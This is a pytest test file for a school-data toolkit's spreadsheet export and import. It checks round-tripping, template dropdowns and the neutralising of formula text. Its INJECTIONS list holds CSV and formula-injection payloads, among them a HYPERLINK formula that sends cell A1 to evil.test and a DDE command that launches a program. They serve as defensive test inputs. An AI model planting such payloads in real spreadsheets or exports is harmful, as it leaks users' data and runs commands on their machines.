"""A sheet to fill in per tool; what is exported, edited and imported again is what it was."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from typing import ClassVar, Literal

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ddtk_helpers.activities.a1_5_data_inventory.records import InventoryEntry
from ddtk_helpers.district import School
from ddtk_helpers.documents import csv_plain, csv_safe
from ddtk_helpers.field_kinds import GRADES
from ddtk_helpers.intake import (
    accept,
    export,
    export_csv,
    find_table,
    preview,
    read_rows,
    read_sheets,
    suggest_mapping,
    template,
)  # fmt: skip
from ddtk_helpers.records import (
    Available,
    Grades,
    LongText,
    Record,
    SchoolCode,
    ShortText,
    Windows,
    check,
    describe,
    field,
)  # fmt: skip
from ddtk_helpers.store import Change, Workbook

INJECTIONS = [
    '=HYPERLINK("http://evil.test/?"&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "＝1+1",
    "http://evil.test", "-5", "00350010", "<10", "'=1+1", "''=x", "'plain", "1-2", "007", "TRUE", "3/4",
]  # fmt: skip


class EveryKind(Record):
    """A record with one field of every kind."""

    tool: ClassVar[str] = "test"
    noun: ClassVar[str] = "thing"
    prefix: ClassVar[str] = "EVK"
    match_on: ClassVar[tuple[str, ...]] = ("name",)

    name: ShortText = field("Name", required=True)
    story: LongText | None = field("Story")
    whole: int | None = field("Whole number")
    amount: float | None = field("Amount")
    certain: bool | None = field("Certain")
    size: Literal["small", "1 large", "not-known"] | None = field("Size")
    colors: list[Literal["red", "blue", "dark green"]] | None = field("Colors")
    words: list[str] | None = field("Words")
    grades: Grades | None = field("Grades")
    day: dt.date | None = field("Day")
    when: Windows | None = field("When")
    usable: Available | None = field("Usable")
    place: SchoolCode | None = field("Place")


def everything() -> st.SearchStrategy[dict]:
    days = st.dates(dt.date(1800, 1, 1), dt.date(2100, 12, 31))
    span = st.tuples(days, days).map(lambda pair: f"{pair[0]:%b} {pair[0].day} to {pair[1]:%b} {pair[1].day}")
    text = st.text(max_size=60) | st.sampled_from(INJECTIONS)
    return st.fixed_dictionaries({
        "name": text, "story": text, "whole": st.integers(-(10**14), 10**14) | st.none(),
        "amount": st.floats(-1e14, 1e14, allow_nan=False) | st.none(), "certain": st.booleans() | st.none(),
        "size": st.sampled_from(["small", "1 large", "not-known", "neither", None]),
        "colors": st.lists(st.sampled_from(["red", "blue", "dark green"])), "words": st.lists(text, max_size=3),
        "grades": st.lists(st.sampled_from(GRADES)), "day": days | st.none() | st.just("Sept"),
        "when": st.lists(span, max_size=2).map("; ".join), "usable": st.integers(0, 400).map(lambda n: f"{n} days") | st.none(),
        "place": st.integers(10000, 99999999).map(str) | st.none(),
    })  # fmt: skip


@pytest.fixture
def workbook(sqlite_workbook: Workbook) -> Workbook:
    school = {"code": "03980010", "name": "Heron Street", "level": "elementary", "grades": ["K"]}
    sqlite_workbook.save(School, [Change(school, school="")])
    return sqlite_workbook


def read_back(workbook: Workbook, name: str, data: bytes, model: type[Record] = EveryKind):
    table = find_table(read_sheets(name, data)[0])
    mapping = suggest_mapping(model, table.header, workbook)
    return preview(workbook, model, read_rows(model, table, mapping, workbook))


def edited_in_excel(data: bytes) -> bytes:
    """Open and save the sheet with another program."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


@given(rows=st.lists(everything(), min_size=1, max_size=4, unique_by=lambda row: row["name"]))
@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_export_and_import_give_the_same_rows_for_every_kind(workbook, rows):
    workbook.save(EveryKind, [Change(None, row.record_id, row.version) for row in workbook.rows(EveryKind)])
    stored = workbook.save(EveryKind, [Change(row) for row in rows])
    sheet = edited_in_excel(export(EveryKind, stored))
    for name, data in (("a.xlsx", sheet), ("a.csv", export_csv(EveryKind, stored))):
        difference = read_back(workbook, name, data)
        assert difference.changes.values.tolist() == []
        assert (len(difference.added), len(difference.unchanged)) == (0, len(stored))


def test_every_field_of_the_inventory_comes_back(workbook):
    example = {
        spec.name: spec.example or (spec.choices[0] if spec.choices else "")
        for spec in describe(InventoryEntry)
    }
    checked = check(InventoryEntry, example)
    (stored,) = workbook.save(InventoryEntry, [Change(checked.values)])
    data = edited_in_excel(export(InventoryEntry, workbook.load(InventoryEntry)))
    assert len(read_back(workbook, "a.xlsx", data, InventoryEntry).unchanged) == 1
    table = find_table(read_sheets("a.xlsx", data)[0])
    matches = suggest_mapping(InventoryEntry, table.header, workbook)
    assert all(match.confirmed for match in matches)
    assert stored.values.keys() <= {match.field for match in matches}


def test_an_edited_cell_and_a_new_row_are_all_that_changes(workbook):
    workbook.save(EveryKind, [Change({"name": "first"}), Change({"name": "second", "whole": 2})])
    book = openpyxl.load_workbook(io.BytesIO(export(EveryKind, workbook.rows(EveryKind))))
    sheet = book["Rows"]
    titles = [cell.value for cell in sheet[1]]
    sheet.cell(3, titles.index("Whole number") + 1).value = 3
    sheet.cell(4, titles.index("Name *") + 1).value = "third"
    file = io.BytesIO()
    book.save(file)
    difference = read_back(workbook, "a.xlsx", file.getvalue())
    assert difference.changes[["record_id", "field", "before", "after"]].values.tolist() == [
        ["EVK-0002", "whole", "2", "3"]
    ]
    rows = accept(workbook, EveryKind, difference, why="edited")
    assert [row.values["name"] for row in rows] == ["third", "second"]


def test_the_template_has_lists_to_choose_from_and_instructions():
    book = openpyxl.load_workbook(io.BytesIO(template(EveryKind, all_fields=True)))
    assert book.sheetnames == ["Rows", "Allowed values", "How to fill in"]
    titles = [cell.value for cell in book["Rows"][1]]
    assert titles[:4] == ["Record number", "For school", "Review state", "Name *"]
    lists = {rule.formula1: str(rule.sqref) for rule in book["Rows"].data_validations.dataValidation}
    letter = openpyxl.utils.get_column_letter(titles.index("Size") + 1)
    assert lists["'Allowed values'!$B$2:$B$4"] == f"{letter}2:{letter}501"
    assert [cell.value for cell in book["Allowed values"]["B"][:4]] == [
        "Size",
        "small",
        "1 large",
        "not-known",
    ]
    assert "one thing on each row" in book["How to fill in"]["A1"].value


def test_an_empty_template_has_nothing_to_import(workbook):
    for all_fields in (False, True):
        difference = read_back(workbook, "a.xlsx", template(EveryKind, all_fields=all_fields))
        assert (difference.added, difference.problems.empty) == ((), True)


def columns_of(data: bytes) -> list[str]:
    return [cell.value for cell in openpyxl.load_workbook(io.BytesIO(data))["Rows"][1]]


def words_in(data: bytes) -> str:
    sheet = openpyxl.load_workbook(io.BytesIO(data))["How to fill in"]
    return " ".join(str(cell.value) for cell in sheet["A"])


def test_the_template_asks_for_the_first_screen_only():
    first = [spec for spec in describe(InventoryEntry) if spec.depth == 1]
    short = template(InventoryEntry)
    assert [title.removesuffix(" *") for title in columns_of(short)] == [spec.title for spec in first]
    assert not any(word in words_in(short) for word in ("Record number", "For school", "Review state"))
    everything = template(InventoryEntry, all_fields=True)
    assert len(columns_of(everything)) == 3 + len(describe(InventoryEntry))
    assert "Record number" in words_in(everything)


def test_the_template_asks_for_the_school_where_rows_of_several_come_together():
    data = template(InventoryEntry, for_school=True)
    assert columns_of(data)[:2] == ["For school", "What you call it *"]
    assert "eight digits" in words_in(data) and "Review state" not in words_in(data)


def test_fields_that_are_asked_for_or_tell_rows_apart_are_never_left_out_of_the_template():
    class Deep(Record):
        tool: ClassVar[str] = "test"
        noun: ClassVar[str] = "deep thing"
        prefix: ClassVar[str] = "DEE"
        match_on: ClassVar[tuple[str, ...]] = ("edition",)
        name: ShortText = field("Name")
        must: ShortText = field("Must", required=True, depth=2)
        edition: ShortText | None = field("Edition", depth=2)
        more: ShortText | None = field("More", depth=2)

    assert columns_of(template(Deep)) == ["Name", "Must *", "Edition"]


def test_a_row_filled_in_on_either_template_is_the_same_row(workbook):
    for all_fields, added, unchanged in ((False, 1, 0), (True, 0, 1)):
        book = openpyxl.load_workbook(io.BytesIO(template(InventoryEntry, all_fields=all_fields)))
        sheet = book["Rows"]
        titles = columns_of(template(InventoryEntry, all_fields=all_fields))
        for spec in describe(InventoryEntry):
            if spec.depth == 1:
                column = titles.index(spec.title + (" *" if spec.required else "")) + 1
                sheet.cell(2, column).value = spec.example
        file = io.BytesIO()
        book.save(file)
        difference = read_back(workbook, "a.xlsx", file.getvalue(), InventoryEntry)
        assert (len(difference.added), len(difference.unchanged)) == (added, unchanged)
        accept(workbook, InventoryEntry, difference, why="filled in")


def test_no_exported_text_is_a_live_formula_or_link(workbook):
    stored = workbook.save(EveryKind, [Change({"name": text, "story": text}) for text in INJECTIONS])
    with zipfile.ZipFile(io.BytesIO(export(EveryKind, stored))) as packed:
        xml = packed.read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<f>|<hyperlink", xml)
    lines = csv.reader(io.StringIO(export_csv(EveryKind, stored).decode("utf-8-sig")))
    cells = [cell for line in lines for cell in line]
    assert not [cell for cell in cells if re.match(r"[=+@＝\t\r]|-(?!5$)", cell)]


@given(st.text() | st.sampled_from(INJECTIONS))
def test_marking_a_text_safe_can_be_taken_back(text):
    assert csv_plain(csv_safe(text)) == text
